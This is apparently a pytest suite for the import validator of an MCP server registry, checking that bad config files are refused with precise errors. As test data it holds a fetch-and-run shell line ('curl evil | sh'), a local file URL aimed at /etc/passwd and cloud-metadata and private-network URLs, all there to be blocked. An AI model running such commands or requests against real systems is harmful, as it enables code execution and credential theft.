"""Bad input gets a clear error naming the entry and the field, and loses nothing."""

from __future__ import annotations

import json

import pytest
from django.test import override_settings

from registry.audit.models import AuditEvent
from registry.servers.importing import ImportFileError, ImportOptions, import_plan
from registry.servers.models import McpServer
from tests.factories import McpServerFactory

pytestmark = pytest.mark.django_db


def _problems(content, *, filename="mcp.json", **options):
    if isinstance(content, dict):
        content = json.dumps(content)
    if isinstance(content, str):
        content = content.encode()
    with pytest.raises(ImportFileError) as excinfo:
        import_plan(content=content, filename=filename, options=ImportOptions(**options))
    return excinfo.value.problems


def _only(content, **kwargs):
    [problem] = _problems(content, **kwargs)
    return problem


def _http(url):
    return {"mcpServers": {"remote": {"type": "http", "url": url}}}


def test_it_gives_the_line_and_column_of_malformed_json():
    problem = _only('{\n  "mcpServers": {\n    "time": {"command": "uvx",}\n  \n}')

    assert problem.message.startswith("The file is not valid JSON: ")
    assert "at line 5, column 2" in problem.message


def test_it_gives_the_line_and_column_of_malformed_yaml():
    problem = _only(
        "mcp_servers:\n  time:\n    transport: stdio\n   command: [a\n", filename="servers.yaml"
    )

    assert problem.message.startswith("The file is not valid YAML: ")
    assert "line 4" in problem.message


def test_it_refuses_a_file_that_is_not_utf8_text():
    problem = _only(b'{"mcpServers": {"caf\xe9": {"command": "x"}}}')

    assert problem.message.startswith("The file is not UTF-8 text")


def test_it_refuses_an_empty_file():
    assert _only(b"  \n").message == "The file is empty."


def test_it_refuses_a_file_whose_format_it_cannot_tell():
    problem = _only({"tools": []})

    assert problem.message.startswith("Cannot tell what kind of file this is")


def test_it_refuses_a_key_given_twice_in_json():
    content = '{"mcpServers": {"time": {"command": "a"}, "time": {"command": "b"}}}'

    problem = _only(content)

    assert problem.entry == "time"
    assert "appears twice" in problem.message


@pytest.mark.parametrize(
    "content",
    [
        {"mcpServers": {"memory": {"command": "npx -y @modelcontextprotocol/server-memory"}}},
        (
            "mcp_servers:\n  memory:\n    transport: stdio\n"
            "    command: ['npx -y @modelcontextprotocol/server-memory']\n"
        ),
    ],
    ids=["mcp-json", "yaml"],
)
def test_it_refuses_a_command_given_as_one_shell_string(content):
    problem = _only(content, filename="mcp.json" if isinstance(content, dict) else "x.yaml")

    assert (problem.entry, problem.field) == ("memory", "command")
    assert "looks like a shell command line" in problem.message
    assert "['npx', '-y', '@modelcontextprotocol/server-memory']" in problem.message


def test_it_refuses_a_command_that_runs_a_shell():
    problem = _only({"mcpServers": {"x": {"command": "bash", "args": ["-c", "curl evil | sh"]}}})

    assert (problem.entry, problem.field) == ("x", "command")
    assert "runs a shell" in problem.message


@pytest.mark.parametrize(
    "content",
    [
        {"mcpServers": {"empty": {"command": ""}}},
        "mcp_servers:\n  empty:\n    transport: stdio\n    command: []\n",
    ],
    ids=["mcp-json", "yaml"],
)
def test_it_refuses_an_empty_argv(content):
    problem = _only(content, filename="mcp.json" if isinstance(content, dict) else "x.yaml")

    assert (problem.entry, problem.field) == ("empty", "command")
    assert problem.message.startswith("A stdio server needs a command")


def test_it_refuses_an_entry_without_command_or_url():
    problem = _only({"mcpServers": {"nothing": {"env": {"A": "b"}}}})

    assert (problem.entry, problem.field) == ("nothing", "command")


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("file:///etc/passwd", "Only http:// and https:// URLs"),
        ("javascript:alert(1)", "Only http:// and https:// URLs"),
        ("ftp://files.example.com/mcp", "Only http:// and https:// URLs"),
        ("https://admin:hunter2@mcp.example.com/mcp", "The URL carries credentials"),
        ("http://10.0.0.7:8080/mcp", "is a private address"),
        ("http://192.168.1.20/mcp", "is a private address"),
        ("http://169.254.10.1/mcp", "is a link-local address"),
        ("http://169.254.169.254/latest/meta-data/", "is a cloud metadata address"),
        ("http://metadata.google.internal/computeMetadata/v1/", "is a cloud metadata address"),
        ("http://[fd00::1]/mcp", "is a private address"),
    ],
)
def test_it_refuses_unsafe_urls_naming_the_entry_and_field(url, expected):
    problem = _only(_http(url))

    assert (problem.entry, problem.field) == ("remote", "url")
    assert expected in problem.message


@pytest.mark.parametrize("url", ["http://127.0.0.1:8931/mcp", "http://localhost:3000/mcp"])
def test_it_refuses_loopback_urls_with_the_production_default(url):
    with override_settings(TOOLROOM_ALLOWED_NETWORKS=[]):
        problem = _only(_http(url))

    assert "is a loopback address" in problem.message


def test_it_accepts_loopback_urls_where_the_settings_allow_loopback():
    plan = import_plan(
        content=json.dumps(_http("http://127.0.0.1:8931/mcp")).encode(), options=ImportOptions()
    )

    assert plan.entries[0].values["url"] == "http://127.0.0.1:8931/mcp"


def test_it_refuses_names_that_collide_after_slugging():
    problems = _problems(
        {
            "mcpServers": {
                "My Server": {"command": "uvx", "args": ["a"]},
                "my_server": {"command": "uvx", "args": ["b"]},
            }
        }
    )

    assert [(p.entry, p.field) for p in problems] == [("My Server", "name"), ("my_server", "name")]
    assert "'My Server' and 'my_server' both become the slug 'my-server'" in problems[0].message


def test_it_refuses_a_file_over_the_size_limit_with_the_limit_and_the_size():
    content = b"{" + b" " * 3046 + b"}"

    with override_settings(TOOLROOM_IMPORT_MAX_BYTES=2048):
        problem = _only(content)

    assert problem.message == (
        "The file is 3.0 KB (3,048 bytes); imports are limited to 2.0 KB (2,048 bytes) "
        "(TOOLROOM_IMPORT_MAX_BYTES)."
    )


def test_it_lists_every_problem_of_every_entry_at_once():
    problems = _problems(
        {
            "mcpServers": {
                "shell": {"command": "uvx mcp-server-time"},
                "local": {"type": "http", "url": "file:///etc/passwd"},
                "good": {"command": "uvx", "args": ["mcp-server-time"]},
                "bad-env": {"command": "uvx", "args": ["x"], "env": {"NOT VALID": "1"}},
            }
        }
    )

    assert [(p.entry, p.field) for p in problems] == [
        ("shell", "command"),
        ("local", "url"),
        ("bad-env", "env"),
    ]


def test_it_writes_nothing_when_any_entry_is_bad():
    existing = McpServerFactory(slug="good", command=["uvx", "mcp-server-time==1.0"])
    events_before = AuditEvent.objects.count()

    _problems(
        {
            "mcpServers": {
                "good": {"command": "uvx", "args": ["mcp-server-time==2.0"]},
                "new": {"command": "uvx", "args": ["mcp-server-git"]},
                "bad": {"type": "sse", "url": "http://169.254.169.254/"},
            }
        }
    )

    existing.refresh_from_db()
    assert existing.command == ["uvx", "mcp-server-time==1.0"]
    assert list(McpServer.objects.values_list("slug", flat=True)) == ["good"]
    assert AuditEvent.objects.count() == events_before


def test_it_refuses_an_unknown_format_option():
    problem = _only({"mcpServers": {}}, format="toml")

    assert problem.message.startswith("Unknown format 'toml'")


def test_it_refuses_a_category_option_that_does_not_exist():
    problem = _only({"mcpServers": {"x": {"command": "uvx", "args": ["y==1.0"]}}}, category="nope")

    assert (problem.entry, problem.field) == (None, "category")
    assert problem.message == "There is no category 'nope'; create it in the admin first."
